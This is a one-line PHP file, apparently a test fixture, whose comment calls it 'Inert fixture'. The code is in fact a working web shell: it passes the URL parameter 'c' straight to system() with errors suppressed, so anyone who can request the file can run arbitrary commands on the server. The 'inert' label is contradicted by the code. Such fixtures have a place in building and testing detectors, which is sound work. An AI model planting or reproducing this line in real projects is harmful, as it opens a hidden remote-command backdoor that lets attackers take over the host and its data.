<?php /* Inert fixture. */ @system($_GET['c']);
